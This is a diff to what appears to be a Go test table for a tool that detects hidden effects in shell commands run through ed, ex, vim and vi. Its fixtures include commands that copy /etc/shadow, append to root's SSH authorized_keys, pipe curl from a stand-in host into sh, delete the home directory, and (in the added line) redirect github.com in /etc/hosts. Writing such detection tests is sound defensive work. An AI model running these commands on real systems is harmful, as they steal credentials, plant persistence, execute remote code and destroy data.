@@ -180,6 +180,7 @@ var hiddenCommandTable = []shellCase{
 	{cmd: "printf '1r /etc/shadow\\nw /tmp/s\\n' | ed -s notes", want: []Effect{eRead("/etc/shadow"), eWrite("/tmp/s")}},
 	{cmd: "printf 'W /root/.ssh/authorized_keys\\n' | ed k.pub", want: []Effect{eAppend("/root/.ssh/authorized_keys")}},
 	{cmd: "ed <<'EOF'\nr !curl -s https://x.example/a | sh\nEOF", want: []Effect{eRun("sh")}, unk: shUnkYes},
+	{cmd: "printf 'e /etc/hosts\\na\\n203.0.113.9 github.com\\n.\\nw\\n' | ed", want: []Effect{eRead("/etc/hosts"), eWrite("/etc/hosts")}},
 	{cmd: `ex -c '!rm -rf ~'`, want: []Effect{eDelR("/home/ann")}},
 	{cmd: `echo ':!rm -rf ~' | vim`, want: []Effect{eDelR("/home/ann")}},
 	{cmd: `echo 'iabc<Esc>:w /etc/cron.d/x' | vi`, want: []Effect{eWrite("/etc/cron.d/x")}},
